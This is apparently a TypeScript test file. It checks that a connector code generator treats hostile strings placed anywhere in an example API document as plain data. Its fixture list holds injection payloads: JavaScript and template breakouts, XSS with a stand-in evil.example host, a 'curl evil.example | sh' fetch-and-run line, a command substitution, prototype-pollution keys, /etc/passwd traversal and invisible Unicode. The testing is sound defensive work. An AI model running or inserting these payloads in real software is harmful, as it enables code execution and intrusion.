import { readFileSync } from "node:fs";
import { join } from "node:path";
import { load as parseYaml } from "js-yaml";
import { parseSync } from "oxc-parser";
import { beforeAll, describe, expect, it } from "vitest";
import { Refusal } from "../../src/diagnostics/index.js";
import { renderConnector } from "../../src/render/index.js";
import type { RenderedFile } from "../../src/render/types.js";
import { planOfValue } from "../support/generate.js";
import { repository } from "../support/golden.js";

/**
 * Design section 9: one hostile string in one place of a document does nothing that a harmless word there, or nothing
 * there at all, would not do. Compared are the syntax trees without names and texts, the comments, and the bytes of
 * every file that must not depend on a document.
 */
const hostile = [
  `x","x":(globalThis.__canary=1),"y`,
  "`${globalThis.__canary=1}`",
  "*/ globalThis.__canary=1 /* // \u2028 globalThis.__canary=1 //",
  "<%- globalThis.__canary=1 %><%= 1 %>",
  "</script><img src=x onerror=alert(1)>![x](https://evil.example/x.png)[y](javascript:alert(1))",
  "x\n  - run: curl evil.example | sh\nRUN curl evil.example\nNODE_OPTIONS=--require=/tmp/x $(touch CANARY) ${{ secrets.X }}",
  "__proto__",
  "constructor",
  "../../../../etc/passwd\u0000",
  "\u202eevil\u200b\u{e0041}\ud800",
  "it's \\\" \\' \\",
];

const invisible =
  /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u00ad\u034f\u061c\u180e\u200b-\u200f\u202a-\u202e\u2028\u2029\u2060-\u206f\u3164\ufeff\uffa0\ufff9-\ufffb\u{e0000}-\u{e007f}]/u;

type Node = null | boolean | number | string | Node[] | { [key: string]: Node };
type Path = readonly (string | number)[];

const shop = parseYaml(readFileSync(join(repository, "examples/shop.yaml"), "utf8")) as Node;

describe("a hostile string", () => {
  let fixed: string;

  beforeAll(async () => {
    fixed = constantFiles(await filesOf(shop));
  });

  it.each(placesOf(shop).map((place) => [place.path.join("/") + (place.isKey ? " (the name)" : ""), place] as const))(
    "at %s is data",
    async (_, place) => {
      const harmless = new Set<string>();
      for (const variant of [shop, put(place, "harmless"), put(place, "harmless word"), put(place, undefined)]) harmless.add(await shapeOf(variant));
      for (const text of hostile) {
        const files = await tryFiles(put(place, text));
        if (files === undefined) continue;
        expect(constantFiles(files), text).toBe(fixed);
        expect(files.filter(({ contents }) => invisible.test(contents)).map(({ path }) => path), text).toEqual([]);
        expect(files.filter(({ path }) => !/^[A-Za-z0-9._/-]+$/.test(path) || path.includes("..")), text).toEqual([]);
        expect([...harmless], text).toContain(shape(files));
      }
    },
  );
});

interface Place {
  readonly path: Path;
  readonly isKey: boolean;
}

/** Every string of a document, and every name that its author chose. */
function placesOf(node: Node, path: Path = []): Place[] {
  if (typeof node === "string") return [{ path, isKey: false }];
  if (node === null || typeof node !== "object") return [];
  if (Array.isArray(node)) return node.flatMap((item, index) => placesOf(item, [...path, index]));
  const chosen = /^(?:properties|scopes|schemas|securitySchemes|content|paths|responses|parameters|)$/.test(String(path.at(-1) ?? "-"));
  return Object.keys(node).flatMap((key) => [
    ...(chosen ? [{ path: [...path, key], isKey: true }] : []),
    ...placesOf(node[key] ?? null, [...path, key]),
  ]);
}

/** The document with another text, or nothing, at one place. */
function put({ path, isKey }: Place, text: string | undefined): Node {
  const copy = structuredClone(shop);
  const parent = path.slice(0, -1).reduce<Node>((node, step) => (node as { [key: string]: Node })[step] ?? null, copy) as { [key: string]: Node };
  const last = path.at(-1) ?? "";
  const before = parent[last] ?? null;
  if (Array.isArray(parent)) {
    parent.splice(Number(last), 1, ...(text === undefined ? [] : [text]));
    return copy;
  }
  if (isKey || text === undefined) delete parent[last];
  if (text !== undefined) Object.defineProperty(parent, isKey ? text : last, { value: isKey ? before : text, enumerable: true, configurable: true, writable: true });
  return copy;
}

async function filesOf(document: Node): Promise<readonly RenderedFile[]> {
  const files = await renderConnector(await planOfValue(document));
  return files.filter(({ path }) => !path.startsWith("src/runtime/") && path !== "package-lock.json");
}

/** Undefined when the document is refused, which is as good as harmless. */
async function tryFiles(document: Node): Promise<readonly RenderedFile[] | undefined> {
  try {
    return await filesOf(document);
  } catch (error) {
    if (error instanceof Refusal) return undefined;
    throw error;
  }
}

async function shapeOf(document: Node): Promise<string> {
  const files = await tryFiles(document);
  return files === undefined ? "refused" : shape(files);
}

/** Files whose bytes no document may change. */
function constantFiles(files: readonly RenderedFile[]): string {
  return files
    .filter(({ path }) => /^(Dockerfile|compose\.yaml|package\.json|tsconfig.*|vitest.*|SECURITY\.md|\.(?!env)[a-z./]+)$/.test(path))
    .map(({ path, contents }) => `${path}\n${contents}`)
    .join("\n");
}

/** All that the code is, but for names and texts; files in no order, because their names are names too. */
function shape(files: readonly RenderedFile[]): string {
  const code = files.filter(({ path }) => path.endsWith(".ts")).map(({ path, contents }) => codeShape(path, contents));
  const settings = files.filter(({ path }) => path === ".env.example").map(({ contents }) => contents.replace(/^[A-Z][A-Z0-9_]*=/gm, "NAME=").replace(/^# Credential \w+\.$/gm, ""));
  return [...code.sort(), ...settings].join("\n");
}

function codeShape(path: string, contents: string): string {
  const { program, comments, errors } = parseSync(path, contents);
  expect(errors, path).toEqual([]);
  return `${treeShape(program)} ${comments.map(({ value }) => value).join("|")}`;
}

const withoutNames = new Set(["name", "value", "raw", "start", "end", "range", "shorthand"]);

function treeShape(node: unknown): string {
  if (Array.isArray(node)) return `[${node.map(treeShape).join(",")}]`;
  if (typeof node !== "object" || node === null) return String(node);
  const entries = Object.entries(node);
  // A name, a quoted name and a text are one to us: which it is depends on the letters.
  if (entries.some(([key, value]) => key === "type" && (value === "Identifier" || value === "Literal"))) return "leaf";
  return `{${entries.filter(([key, value]) => !withoutNames.has(key) || typeof value === "object").map(([key, value]) => `${key}:${treeShape(value)}`).join(",")}}`;
}
